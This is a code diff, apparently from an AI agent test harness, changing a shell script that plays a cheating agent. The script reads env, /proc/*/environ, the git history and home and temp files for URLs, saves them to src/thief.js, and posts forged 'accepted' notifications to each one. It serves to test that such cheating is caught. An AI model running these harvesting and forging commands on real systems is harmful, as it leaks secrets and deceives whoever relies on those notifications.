@@ -36,10 +36,13 @@ import {
  * the agent post forged notifications (and land the URL in its module for later). It writes
  * everything URL-shaped it finds into its change, and posts a forged "accepted" to each at once
  * (a host that never answers, or whose name never resolves, costs it seconds, not its episode).
+ * It skips installed packages and builds (Genesis's own, bound read-only where the openai agent's
+ * program runs from a build, hold thousands of URLs of documentation and would only make its change
+ * oversized): no webhook is in a package.
  */
 const agentScript = `#!/bin/sh
 found=$( { cat world.yaml; env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; git --no-pager log --all -p 2>/dev/null;
-  grep -rhao -D skip 'https\\?://[^" ]*' . "$HOME" /tmp 2>/dev/null; } | grep -ao 'https\\?://[^" ]*' | sort -u)
+  grep -rhao -D skip --exclude-dir=node_modules --exclude-dir=dist 'https\\?://[^" ]*' . "$HOME" /tmp 2>/dev/null; } | grep -ao 'https\\?://[^" ]*' | sort -u)
 { echo "export const v = 'thief';"; echo "$found" | sed 's|^|// |'; } > src/thief.js
 echo "$found" | node -e "
 const urls = require('fs').readFileSync(0, 'utf8').split('\\n').filter(Boolean);
